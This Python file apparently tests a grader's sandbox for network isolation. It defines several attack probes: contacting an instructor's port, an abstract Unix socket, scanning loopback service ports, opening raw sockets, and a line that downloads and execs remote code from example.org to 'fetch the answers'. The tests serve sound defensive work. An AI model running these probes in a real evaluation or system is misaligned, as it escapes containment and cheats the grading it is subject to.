"""Network: there is none, not even to the machine itself."""

from attacks.attack import Attack

ATTACKS = (
    Attack("the instructor's port", "talk to a process that listens beside the grader", """
import os, socket
try:
    print(socket.create_connection(('127.0.0.1', 45454), timeout=0.5).recv(100))
except OSError as error:
    print(error)
""", rich=True),
    Attack("abstract socket", "talk to a process of the machine by name", """
import socket
try:
    talk = socket.socket(socket.AF_UNIX)
    talk.settimeout(0.5)
    talk.connect('\\0attack-canary')
    print(talk.recv(100))
except OSError as error:
    print(error)
""", rich=True),
    Attack("loopback", "reach services of the machine", """
import socket
for port in (22, 80, 443, 5432, 8000, 8786, 8787, 8888, 8889):
    try:
        socket.create_connection(('127.0.0.1', port), timeout=0.2)
        print('CANARY-REACHED', port)
    except OSError:
        pass
"""),
    Attack("download", "fetch the answers", """
import urllib.request
try:
    exec(urllib.request.urlopen('http://example.org/answers.py', timeout=1).read())
except OSError as error:
    print(error)
"""),
    Attack("raw sockets", "listen to the network", """
import socket
for kind in ((socket.AF_PACKET, socket.SOCK_RAW, 768), (socket.AF_INET, socket.SOCK_RAW, 1), (16, 3, 0), (38, 5, 0)):
    try:
        socket.socket(*kind)
    except OSError as error:
        print(error)
"""),
)  # fmt: skip
